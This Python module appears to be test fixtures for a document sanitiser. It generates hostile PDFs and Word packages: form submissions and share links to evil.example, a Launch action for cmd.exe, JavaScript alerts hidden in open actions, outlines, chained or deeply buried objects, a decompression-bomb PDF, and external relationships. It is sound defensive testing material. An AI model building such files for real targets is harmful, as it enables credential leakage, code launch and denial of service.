"""Hostile papers, made on the spot: everything that reaches out of a file, in every place where it may hide."""

import io
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf

from . import samples

Dict, Name, Array, String = pikepdf.Dictionary, pikepdf.Name, pikepdf.Array, pikepdf.String

Action = Callable[[pikepdf.Pdf], pikepdf.Object]
Place = Callable[[pikepdf.Pdf, pikepdf.Object], None]


def _file(path: str) -> pikepdf.Dictionary:
    return Dict(Type=Name.Filespec, F=String(path), UF=String(path))


SENDING: dict[str, Action] = {
    "submit": lambda _: Dict(S=Name.SubmitForm, F=Dict(FS=Name.URL, F=String("https://evil.example/x"))),
    "submit, file as text": lambda _: Dict(S=Name.SubmitForm, F=String("https://evil.example/x")),
    "go to a share": lambda _: Dict(S=Name.GoToR, F=_file(r"\\evil.example\share\a.pdf"), D=Array([0, Name.Fit])),
    "go to a share as text": lambda _: Dict(S=Name.GoToR, F=String("//evil.example/share/a.pdf")),
    "script in a link": lambda _: Dict(S=Name.URI, URI=String("java\tscript:app.alert(1)")),
    "file in a link": lambda _: Dict(S=Name.URI, URI=String("file://evil.example/share/a")),
    "share in a link": lambda _: Dict(S=Name.URI, URI=String(r"\\evil.example\share\a")),
    "link in another alphabet": lambda _: Dict(S=Name.URI, URI=String("\ufefffile://evil.example/ă")),
    "thread elsewhere": lambda _: Dict(S=Name.Thread, F=_file("/evil/a.pdf"), D=0),
    "typed action": lambda _: Dict(Type=Name.Action, S=Name.SubmitForm, F=String("http://evil.example")),
}
RUNNING: dict[str, Action] = {
    "JavaScript": lambda _: Dict(S=Name.JavaScript, JS=String("app.alert(1)")),
    "JavaScript in a stream": lambda pdf: Dict(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")),
    "Launch": lambda _: Dict(S=Name.Launch, F=String("cmd.exe")),
    "ImportData": lambda _: Dict(S=Name.ImportData, F=_file("a.fdf")),
    "GoToE": lambda _: Dict(S=Name.GoToE, T=Dict(R=Name.C)),
    "Rendition": lambda _: Dict(S=Name.Rendition, OP=0),
    "RichMediaExecute": lambda _: Dict(S=Name.RichMediaExecute),
}


def _annotation(pdf: pikepdf.Pdf, **what: Any) -> None:
    pdf.pages[0].Annots = Array(
        [pdf.make_indirect(Dict(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], **what))]
    )


def _outline(pdf: pikepdf.Pdf, action: pikepdf.Object) -> None:
    item = pdf.make_indirect(Dict(Title=String("a"), A=action))
    pdf.Root.Outlines = pdf.make_indirect(Dict(Type=Name.Outlines, First=item, Last=item, Count=1))


def _field(pdf: pikepdf.Pdf, action: pikepdf.Object) -> None:
    field = Dict(FT=Name.Btn, T=String("b"), Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 9, 9], AA=Dict(U=action))
    made = pdf.make_indirect(field)
    pdf.Root.AcroForm = Dict(Fields=Array([made]))
    pdf.pages[0].Annots = Array([made])


def _names(pdf: pikepdf.Pdf, action: pikepdf.Object) -> None:
    pdf.Root.Names = Dict(Dests=Dict(Kids=Array([pdf.make_indirect(Dict(Names=Array([String("a"), Dict(A=action)])))])))


def _chain(pdf: pikepdf.Pdf, action: pikepdf.Object) -> None:
    harmless = Dict(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
    harmless.Next = Array([Dict(S=Name.Named, N=Name.NextPage, Next=action)])
    _annotation(pdf, A=harmless)


def _buried(pdf: pikepdf.Pdf, action: pikepdf.Object) -> None:
    deep: pikepdf.Object = action
    for _ in range(60):
        deep = Dict(X=Array([deep]))
    pdf.Root.PieceInfo = deep


PLACES: dict[str, Place] = {
    "on opening": lambda pdf, action: setattr(pdf.Root, "OpenAction", action),
    "on closing": lambda pdf, action: setattr(pdf.Root, "AA", Dict(WC=action)),
    "on turning the page": lambda pdf, action: pdf.pages[0].obj.__setitem__("/AA", Dict(O=action)),
    "in a link": lambda pdf, action: _annotation(pdf, A=action),
    "in a link's other action": lambda pdf, action: _annotation(pdf, PA=action),
    "on entering an annotation": lambda pdf, action: _annotation(pdf, AA=Dict(E=action)),
    "in an outline": _outline,
    "in a field": _field,
    "in a tree of names": _names,
    "after a harmless one": _chain,
    "deep in private data": _buried,
    "an object nothing refers to": lambda pdf, action: setattr(pdf.Root, "Perms", pdf.make_indirect(action)),
}


def paper(action: Action, place: Place, *, packed: bool = False, indirect: bool = False) -> bytes:
    """A PDF with that action in that place; in an object stream, or as an object of its own."""

    def change(pdf: pikepdf.Pdf) -> None:
        made = action(pdf)
        place(pdf, pdf.make_indirect(made) if indirect else made)

    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    return samples.pdf(change, object_stream_mode=mode)


def references(data: bytes) -> list[str]:
    """What still leads out of a PDF: a reader of its own, that knows nothing of how the product looks."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        text = b"".join(obj.unparse(resolved=True) + b"\n" for obj in pdf.objects)
    evil = "evil".encode("utf-16-be").hex().encode()
    told = [word for word in (b"evil", evil, b"app.alert", b"/SubmitForm", b"/GoToR", b"/Launch") if word in text]
    return [word.decode() for word in told]


def many_objects(count: int) -> bytes:
    """A small PDF of `count` objects."""
    out, places = io.BytesIO(b"%PDF-1.5\n"), []
    out.seek(0, io.SEEK_END)
    bodies = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    bodies += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"]
    for number in range(1, count):
        places.append(out.tell())
        out.write(b"%d 0 obj%s endobj\n" % (number, bodies[number - 1] if number <= 3 else b"<<>>"))
    table = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % count)
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (count, table))
    return out.getvalue()


def swelling(megabytes: int) -> bytes:
    """A PDF of a few kilobytes whose attached data is that large when unpacked."""

    def change(pdf: pikepdf.Pdf) -> None:
        packed = zlib.compressobj(1)
        parts = [packed.compress(b"<a>")]
        parts += [packed.compress(b" " * 1024 * 1024) for _ in range(megabytes)]
        file = pdf.make_stream(b"".join([*parts, packed.compress(b"</a>"), packed.flush()]), Filter=Name.FlateDecode)
        pdf.Root.Names = Dict(EmbeddedFiles=Dict(Names=Array([String("a"), Dict(F=String("a.xml"), EF=Dict(F=file))])))

    return samples.pdf(change)


_RELATIONSHIPS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relation(kind: str, target: str, *, outside: bool = False) -> bytes:
    """A part of relationships with one of that kind."""
    mode = ' TargetMode="External"' if outside else ""
    one = f'<Relationship Id="r1" Type="{_OFFICE}{kind}" Target="{target}"{mode}/>'
    return _RELATIONSHIPS.format(one).encode()


_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word(inside: str) -> bytes:
    return f"<w:document {_WORD}><w:body>{inside}</w:body></w:document>".encode()


def field(*pieces: str) -> str:
    """A field whose instruction is written in pieces; "{" and "}" begin and end one inside."""
    marks = {"{": "begin", "}": "end"}
    runs = [
        f'<w:r><w:fldChar w:fldCharType="{marks[one]}"/></w:r>'
        if one in marks
        else f'<w:r><w:instrText xml:space="preserve">{one}</w:instrText></w:r>'
        for one in ("{", *pieces)
    ]
    end = '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return f"<w:p>{''.join(runs)}{end}</w:p>"


def package(main: str = "word/document.xml", /, **parts: bytes | str) -> bytes:
    """As `samples.office`, the main part among `parts` where it is given; `types` is what the content types say."""
    types = parts.pop("types", "")
    return _zip({"[Content_Types].xml": f"<Types>{types!s}</Types>", main: "<x/>", **_named(parts)})


def _named(parts: dict[str, bytes | str]) -> dict[str, bytes | str]:
    return {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}


def _zip(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()
